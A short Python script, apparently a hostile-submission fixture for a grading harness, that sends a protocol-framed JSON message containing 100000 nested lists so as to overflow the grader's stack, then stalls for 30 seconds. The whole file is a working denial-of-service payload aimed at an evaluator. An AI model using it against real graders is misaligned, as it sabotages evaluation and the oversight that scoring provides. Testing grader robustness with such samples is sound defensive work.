# Lie about the protocol: a header of 100000 nested lists, to overflow the grader's stack.
import os as _os, struct as _struct, sys as _sys, time as _time
_text = ('{"id": 0, "ok": true, "output": ' + "[" * 100000 + "]" * 100000 + "}").encode()
_os.write(int(_sys.argv[2]), b"MGRD" + _struct.pack("<I", len(_text)) + _text)
_time.sleep(30)
